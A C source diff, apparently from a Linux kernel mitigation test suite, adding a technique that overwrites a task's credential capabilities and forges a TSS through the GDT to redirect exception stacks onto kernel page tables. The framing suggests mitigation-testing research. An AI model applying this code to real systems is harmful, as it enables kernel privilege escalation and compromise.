@@ -20,6 +20,7 @@
 #include "objects.h"
 
 #ifdef __x86_64__
+#include <sys/io.h>
 
 #define CHILD_CPU	1
 #define CHILD_PART	0x60
@@ -36,8 +37,19 @@
 #define DR7_WRITE	(DR7_ENABLE | 1UL << 16 | 2UL << 18)	/* of eight bytes */
 #define DR7_EXECUTE	DR7_ENABLE
 
-/* struct tss_struct */
+/* struct tss_struct, of which the CPU reads no more than TSS_SIZE bytes */
+#define TSS_SIZE	0x68
 #define TSS_IST_DB	(36 + 2 * 8)
+#define TSS_IST_MCE	(36 + 3 * 8)
+
+/* A descriptor's two words: the base is in bits 16 to 39, 56 to 63, and in the second. */
+#define GDT_TSS		(8 * 8)
+#define BASE_LOW	0xff0000ffffff0000UL
+
+/* struct cred has its capabilities behind eight ids. */
+#define CRED_SIZE	128
+#define CRED_EFFECTIVE	56
+#define SOME_PORT	0x80
 
 /* An exception frame: ip, cs, flags, sp, ss; a stack is aligned to 16 bytes. */
 #define STACK_SIZE	8192
@@ -169,22 +181,21 @@ static void wait_for_frame(pid_t pid, uint64_t table)
 
 static enum outcome judge_frame(pid_t pid, uint64_t table)
 {
-	uint64_t words[FRAME_TOP / sizeof(uint64_t)], zero = 0;
-	size_t i;
+	uint64_t words[FRAME_TOP / sizeof(uint64_t)], zero = 0, at;
 
 	if (!has_frame(table))
 		return broken("no exception came, after %lu rounds", child->rounds);
 	stop(pid);
 	kread(table, words, sizeof(words));
-	for (i = 0; i < FRAME_TOP / sizeof(zero); i++)
-		kwrite64(table + i * sizeof(zero), zero);
+	for (at = table - ROOM; at < table + FRAME_TOP; at += sizeof(zero))
+		kwrite64(at, zero);
 	return won("the CPU pushed a frame to the kernel's top-level table: entries 1 to 3 are %#lx, %#lx, %#lx",
 		   words[1], words[2], words[3]);
 }
 
-static enum outcome aim(pid_t pid, uint64_t slot, uint64_t table)
+static enum outcome aim_stack(pid_t pid, uint64_t tss, uint64_t table)
 {
-	uint64_t old = kread64(slot);
+	uint64_t slot = tss + TSS_IST_DB, old = kread64(slot);
 	enum outcome outcome;
 	int err;
 
@@ -198,7 +209,90 @@ static enum outcome aim(pid_t pid, uint64_t slot, uint64_t table)
 	return outcome;
 }
 
-enum outcome ist_pointer(void)
+/* ---- gdt-tss: the same by a TSS of the attacker's own ---- */
+
+/* Each return to user space may then load the TSS again, to have its limit. */
+static bool take_ports(void)
+{
+	uint64_t ids, two = ATTACKER_UID | (uint64_t)ATTACKER_UID << 32;
+	struct task task;
+
+	if (ktask(0, &task))
+		return false;
+	ids = find_word(task.cred, CRED_SIZE, two);
+	return ids && !kwrite64(ids + CRED_EFFECTIVE, ~0UL) && !ioperm(SOME_PORT, 1, 1);
+}
+
+/* On the stack of machine checks, which both halves of isolated tables map. */
+static uint64_t copy_tss(uint64_t tss)
+{
+	uint64_t copy = kread64(tss + TSS_IST_MCE) - STACK_SIZE;
+	size_t i;
+
+	for (i = 0; i < TSS_SIZE; i += sizeof(uint64_t))
+		if (kwrite64(copy + i, kread64(tss + i)))
+			return 0;
+	return copy;
+}
+
+static int set_base(uint64_t descriptor, uint64_t base)
+{
+	uint64_t low = kread64(descriptor) & ~BASE_LOW;
+	int err;
+
+	low |= (base & 0xffffff) << 16 | (base & 0xff000000) << 32;
+	err = kwrite64(descriptor, low);
+	return err ? err : kwrite64(descriptor + sizeof(low), base >> 32);
+}
+
+static uint64_t get_base(uint64_t descriptor)
+{
+	uint64_t low = kread64(descriptor);
+
+	return (low >> 16 & 0xffffff) | (low >> 32 & 0xff000000) |
+	       kread64(descriptor + sizeof(low)) << 32;
+}
+
+static void have_tss_loaded(void)
+{
+	bool invalid = true;
+
+	kwrite(ksymbol_cpu("__tss_limit_invalid", CHILD_CPU), &invalid, sizeof(invalid));
+}
+
+/* By a task on that CPU which has a right to a port, as we do. */
+static void put_back(uint64_t descriptor, uint64_t base)
+{
+	set_base(descriptor, base);
+	have_tss_loaded();
+	stay_on_cpu(CHILD_CPU);
+	stay_on_cpu(0);
+}
+
+static enum outcome forge_tss(pid_t pid, uint64_t tss, uint64_t table)
+{
+	uint64_t descriptor = ksymbol_cpu("gdt_page", CHILD_CPU) + GDT_TSS;
+	uint64_t base = get_base(descriptor), copy = copy_tss(tss);
+	enum outcome outcome;
+	int err;
+
+	if (!copy || kwrite64(copy + TSS_IST_DB, table + FRAME_TOP))
+		return broken("no copy of the TSS");
+	err = set_base(descriptor, copy);
+	if (err)
+		return lost("the store to the GDT gave %s", strerror(-err));
+	have_tss_loaded();
+	wait_for_frame(pid, table);
+	outcome = judge_frame(pid, table);
+	put_back(descriptor, base);
+	return outcome;
+}
+
+/* ---- what both do ---- */
+
+typedef enum outcome aim_function(pid_t pid, uint64_t tss, uint64_t table);
+
+static enum outcome aim_by(aim_function *aim)
 {
 	uint64_t tss = ksymbol_cpu("cpu_tss_rw", CHILD_CPU), table = ksymbol("init_top_pgt");
 	volatile char *page = mmap((void *)user_room(CHILD_PART), PAGE_SIZE, PROT_READ | PROT_WRITE,
@@ -207,8 +301,6 @@ enum outcome ist_pointer(void)
 	struct slot slot;
 	pid_t pid;
 
-	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
-		return skipped("needs a second CPU");
 	if (!tss || !table || page == MAP_FAILED || !is_room(table))
 		return broken("no TSS, or no room below the kernel's top-level table");
 	stay_on_cpu(0);
@@ -218,9 +310,26 @@ enum outcome ist_pointer(void)
 	if (kwalk((uint64_t)page, LEVEL_PTE, pid, &slot) || !watch(pid, DR7_WRITE, slot.slot))
 		outcome = broken("no entry, or no watchpoint");
 	else
-		outcome = aim(pid, tss + TSS_IST_DB, table);
+		outcome = aim(pid, tss, table);
 	stop(pid);
+	munmap((void *)page, PAGE_SIZE);
 	return outcome;
+}
+
+enum outcome ist_pointer(void)
+{
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	return aim_by(aim_stack);
+}
+
+enum outcome gdt_tss(void)
+{
+	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
+		return skipped("needs a second CPU");
+	if (!take_ports())
+		return broken("no right to a port");
+	return aim_by(forge_tss);
 }
 
 /* ---- ist-cr3: the saved root, where a system call begins ---- */
@@ -308,6 +417,11 @@ enum outcome ist_cr3(void)
 }
 
 enum outcome ist_pointer(void)
+{
+	return skipped("x86-64 only");
+}
+
+enum outcome gdt_tss(void)
 {
 	return skipped("x86-64 only");
 }
